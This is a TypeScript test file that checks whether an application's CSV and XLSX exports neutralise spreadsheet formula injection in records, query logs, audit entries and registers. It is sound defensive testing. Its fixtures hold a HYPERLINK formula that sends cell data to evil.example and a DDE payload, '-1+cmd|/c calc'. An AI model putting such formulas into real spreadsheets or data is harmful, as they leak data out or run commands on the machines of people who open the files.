/**
 * Text someone typed (a subject name, a lookup purpose, an audit reason, a register field) that a
 * spreadsheet would run as a formula leaves every CSV and XLSX export inert (a leading
 * apostrophe); numbers stay numbers; the machine formats (audit JSONL bundle, register JSON) carry
 * it as typed, and the bundle still verifies.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { createTestDatabase, type TestDatabase } from '../testing/db';
import { contextFor, viewerByUsername } from '../testing/context';
import { createCallerFactory } from '../trpc/init';
import { appRouter } from '../trpc/router';
import { seedDemo } from '../seed';
import { actorOf, departmentScopeOf, type Viewer } from '../auth/viewer';
import { appendAudit } from '../audit/append';
import { startAuditExport } from '../audit/export';
import { auditFilterSchema } from '../audit/filter';
import { verifyBundleLines } from '../audit/bundle';
import { recordsExportStream } from '../records/export';
import { QUERY_LOG_COLUMNS, queryLogPages } from '../grading/lookup';
import { tableStream } from '../grading/export';
import { createEntry } from '../registers/service';
import { exportRegister, importRegister, type DownloadFile } from '../registers/io';

const EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")';

let t: TestDatabase;
let filler: Viewer;
let auditor: Viewer;
let editor: Viewer;
const createCaller = createCallerFactory(appRouter);

const bytesOf = async (body: ReadableStream<Uint8Array> | Uint8Array) => (body instanceof Uint8Array ? body : new Uint8Array(await new Response(body).arrayBuffer()));
const textOf = async (body: ReadableStream<Uint8Array> | Uint8Array) => new TextDecoder().decode(await bytesOf(body));

/** Minimal RFC 4180 reader for assertions (cells as written). */
function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\n') row.push(cell), rows.push(row), (row = []), (cell = '');
    else if (c !== '\uFEFF') cell += c;
  }
  return rows;
}

async function sheetOf(body: ReadableStream<Uint8Array> | Uint8Array): Promise<ExcelJS.Worksheet> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await bytesOf(body)) as unknown as ArrayBuffer);
  return wb.worksheets[0]!;
}

beforeAll(async () => {
  t = await createTestDatabase();
  await seedDemo(t.db);
  filler = await viewerByUsername(t.db, 'filler');
  auditor = await viewerByUsername(t.db, 'auditor');
  editor = await viewerByUsername(t.db, 'editor');
});
afterAll(async () => {
  await t?.close();
});

describe('formula injection through exports', () => {
  it('records: a subject name typed as a formula is inert in CSV and XLSX; the catalog version stays a number', async () => {
    const c = createCaller(contextFor(t.db, filler));
    const form = await c.record.form({ code: 'XZCF' });
    await c.record.submit({
      catalogCode: 'XZCF',
      catalogVersion: form.version,
      subjectType: '法人及非法人组织',
      subjectCode: '12440300MB2C92173E',
      subjectName: EVIL,
      data: { CF_XDR_MC: EVIL, CF_XDR_LB: '法人及非法人组织', CF_WSH: '汴市监罚〔2024〕12号', CF_CFLB: '罚款', CF_JDRQ: '2024-09-27', CF_NR_FK: 1.5 },
    });
    const csv = csvCells(await textOf(recordsExportStream(t.db, filler, departmentScopeOf(filler), {}, 'csv')));
    const name = csv[0]!.indexOf('subject_name');
    expect(csv[1]![name]).toBe(`'${EVIL}`);
    const ws = await sheetOf(recordsExportStream(t.db, filler, departmentScopeOf(filler), {}, 'xlsx'));
    expect(ws.getRow(2).getCell(name + 1).value).toBe(`'${EVIL}`);
    expect(ws.getRow(2).getCell(csv[0]!.indexOf('catalog_version') + 1).value).toBe(form.version);
  });

  it('query log: a lookup purpose typed as a formula is inert; the result count stays a number', async () => {
    await createCaller(contextFor(t.db, filler)).grading.lookup({ query: '12440300MB2C92173E', purpose: EVIL });
    const csv = csvCells(await textOf(tableStream('csv', 'query-log', QUERY_LOG_COLUMNS, queryLogPages(t.db, {}))));
    const row = csv.find((r) => r.includes(`'${EVIL}`));
    expect(row, 'the purpose cell is made inert').toBeDefined();
    expect(row![QUERY_LOG_COLUMNS.indexOf('purpose')]).toBe(`'${EVIL}`);
    expect(row![QUERY_LOG_COLUMNS.indexOf('result_count')]).toMatch(/^\d+$/);
  });

  it('audit: CSV and XLSX make a formula-like reason and object id inert; the JSONL bundle carries them as typed and verifies', async () => {
    await appendAudit(t.db, actorOf(auditor), { action: 'record.reveal', objectType: 'record', objectId: '-1+cmd|/c calc', reason: EVIL, after: { amount: -12.5 } });
    const filter = auditFilterSchema.parse({ action: 'record.reveal' });

    const csv = await startAuditExport(t.db, actorOf(auditor), 'csv', filter);
    const rows = csvCells(await textOf(csv.body));
    const header = rows[0]!;
    const row = rows.find((r) => r[header.indexOf('reason')] === `'${EVIL}`);
    expect(row, 'the reason cell is made inert').toBeDefined();
    expect(row![header.indexOf('object_id')]).toBe("'-1+cmd|/c calc");
    expect(row![header.indexOf('after')]).toBe('{"amount": -12.5}');

    const xlsx = await startAuditExport(t.db, actorOf(auditor), 'xlsx', filter);
    const ws = await sheetOf(xlsx.body);
    const values = (ws.getRow(2).values as unknown[]).slice(1);
    expect(values).toContain(`'${EVIL}`);
    expect(typeof values[0]).toBe('number');

    const jsonl = await startAuditExport(t.db, actorOf(auditor), 'jsonl', filter);
    const lines = (await textOf(jsonl.body)).trimEnd().split('\n');
    expect(lines.some((l) => l.includes(JSON.stringify(EVIL)) && !l.includes(`'${EVIL}`))).toBe(true);
    expect(await verifyBundleLines(lines)).toMatchObject({ ok: true });
  });

  it('registers: a field typed as a formula is inert in the XLSX export, and the export imports back unchanged', async () => {
    await createEntry(t.db, actorOf(editor), {
      kindCode: 'sanction-measure',
      code: 'SM-901',
      content: {
        text: '=1+1 限制参与政府采购活动',
        type: '行政性',
        targetSubjects: ['法人及非法人组织'],
        list: { kind: 'credit-list', code: 'CL-001' },
        legalBasis: [{ name: '《中华人民共和国政府采购法》', article: '第二十二条' }],
        departments: ['CZJ'],
        duration: '-3年',
        repairable: true,
      },
    });
    const file: DownloadFile = await exportRegister(t.db, actorOf(editor), { kindCode: 'sanction-measure', format: 'xlsx' });
    const bytes = await bytesOf(file.body);
    const ws = await sheetOf(bytes);
    const header = (ws.getRow(1).values as unknown[]).slice(1) as string[];
    const row = [...Array(ws.rowCount).keys()].map((i) => ws.getRow(i + 1)).find((r) => r.getCell(1).value === 'SM-901')!;
    expect(row.getCell(header.indexOf('措施内容 (text)') + 1).value).toBe("'=1+1 限制参与政府采购活动");
    expect(row.getCell(header.indexOf('版本 (version)') + 1).value).toBe(1);
    const report = await importRegister(t.db, actorOf(editor), { kindCode: 'sanction-measure', fileName: file.fileName, bytes, mode: 'dry-run' });
    expect(report.errors).toEqual([]);
    expect(report.unchanged).toBe(report.rows);
  });
});
